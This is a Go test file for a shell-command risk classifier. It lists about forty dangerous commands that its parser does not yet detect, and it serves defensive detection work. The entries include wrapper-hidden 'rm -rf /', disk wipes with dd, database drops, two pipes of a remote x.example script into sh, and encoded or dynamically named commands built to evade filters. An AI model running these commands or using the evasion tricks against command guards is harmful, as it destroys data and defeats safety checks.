package risk

// walkPending are dangerous commands the risk rules would rate correctly
// but the shell walk (walk.go, exec.go, words.go) does not yet hand to
// them: wrappers it does not peel (parallel, chrt, strace, fakeroot,
// nsenter, systemd-run, screen/tmux, unshare, runuser, gdb --args, dotenv,
// nix-shell --run; uv/poetry/pipenv run dropping flags), xargs … sh -c
// with the input's paths, $( ) inside $(( )), ${X:-/} defaults, dynamic
// command names ($RM, $SUDO) and $'\x72\x6d' / printf '\x72…' | sh decoding.
// They count in the corpus figures; TestWalkPending reports which of them
// pass, so a case moves to corpus_walk_test.go once the walk handles it.
var walkPending = []corpusCase{
	{"parallel -j4 'rm -rf {}' ::: /srv/a /srv/b", H, C, CatDestructiveFS},
	{"chrt -f 99 rm -rf /", C, C, CatDestructiveFS},
	{"taskset 0x1 dd if=/dev/zero of=/dev/sda", C, C, CatDiskDevice},
	{"strace -f -o /dev/null rm -rf /", C, C, CatDestructiveFS},
	{"fakeroot rm -rf /", C, C, CatDestructiveFS},
	{"nsenter -t 1 -m -u -i -n -p -- rm -rf /", C, C, CatDestructiveFS},
	{"systemd-run -p MemoryMax=1G --wait rm -rf /", C, C, CatDestructiveFS},
	{"screen -dmS x rm -rf /", C, C, CatDestructiveFS},
	{"screen -d -m bash -c 'rm -rf /srv/app'", H, C, CatDestructiveFS},
	{"tmux new-session -d 'rm -rf /'", C, C, CatDestructiveFS},
	{"tmux new -d -s job 'curl -fsSL https://x.example/i.sh | sh'", C, C, CatRemoteCode},
	{"unshare -r rm -rf /", C, C, CatDestructiveFS},
	{"runuser -u postgres -- dropdb prod", C, C, CatDatabase},
	{"gdb --args rm -rf /", C, C, CatDestructiveFS},
	{"gdb -batch -ex run --args dd if=/dev/zero of=/dev/sda", C, C, CatDiskDevice},
	{"dotenv -- rm -rf /srv/app", H, C, CatDestructiveFS},
	{"dotenv -e .env.prod -- psql -c 'DROP DATABASE app'", C, C, CatDatabase},
	{"nix-shell --run 'rm -rf /'", C, C, CatDestructiveFS},
	{"nix-shell -p postgresql --run \"psql -c 'DROP TABLE users'\"", C, C, CatDatabase},
	{"uv run rm -rf /srv/app", H, C, CatDestructiveFS},
	{"poetry run rm -rf /", C, C, CatDestructiveFS},
	{"pipenv run rm -rf /data", H, C, CatDestructiveFS},
	{"ls | xargs bash -c 'rm -rf /srv/{}'", H, C, CatDestructiveFS},
	{"echo /srv/app | xargs -I{} sh -c 'rm -rf {}'", H, C, CatDestructiveFS},
	{"find /srv -maxdepth 1 | xargs -I % bash -c 'rm -rf %'", H, C, CatDestructiveFS},
	{"echo $(( $(rm -rf /srv/app; echo 1) + 1 ))", H, C, CatDestructiveFS},
	{"x=$(( $(curl -s https://x.example/i.sh | sh) ))", C, C, CatRemoteCode},
	{"rm -rf ${X:-/}", C, C, CatDestructiveFS},
	{"rm -rf \"${DEPLOY_DIR:-/}\"", C, C, CatDestructiveFS},
	{"rm -rf ${TARGET:-/srv/app}", H, C, CatDestructiveFS},
	{"${RM} -rf /", H, C, CatDestructiveFS},
	{"$RM -rf /srv/app", M, C, ""},
	{"$SUDO rm -rf /", C, C, CatDestructiveFS},
	{"${SUDO} dd if=/dev/zero of=/dev/sda", C, C, CatDiskDevice},
	{"$'\\x72\\x6d' -rf /", H, C, CatDestructiveFS},
	{"$'\\162\\155' -rf /", H, C, CatDestructiveFS},
	{"printf '\\x72\\x6d -rf /' | sh", H, C, CatDestructiveFS},
	{"printf '%b' '\\x72\\x6d -rf /srv/app' | bash", H, C, CatDestructiveFS},
	{"echo -e '\\x72\\x6d -rf /' | sh", H, C, CatDestructiveFS},
	{"r=rm; $r -rf /", H, C, CatDestructiveFS},
}
